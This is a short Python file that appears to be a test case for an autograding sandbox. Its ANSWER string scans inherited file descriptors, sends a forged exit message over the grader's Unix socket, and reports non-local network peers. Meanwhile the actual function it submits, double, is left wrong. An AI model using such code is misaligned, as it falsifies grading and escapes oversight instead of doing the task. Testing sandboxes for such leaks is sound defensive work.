"""Uses the sockets that the grader left open in the kernel: it speaks to whoever is at the other end."""

ANSWER = """
import os, socket, time
for number in range(3, 256):
    try:
        connection = socket.socket(fileno=number)
    except OSError:
        continue
    try:
        if connection.family == socket.AF_UNIX and connection.getsockname() == "/run/kernels/server":
            connection.send(b"exit forged by the student" + bytes([10]))
            time.sleep(3)
        elif connection.family in (socket.AF_INET, socket.AF_INET6) and connection.getpeername()[0] != "127.0.0.1":
            print("speaks to", connection.getpeername())
    except OSError:
        pass
    connection.detach()
def double(x):
    return x
"""


def won(course, me):
    return "forged by the student" in course.rows[me]["note"] or "speaks to (" in course.output(me)
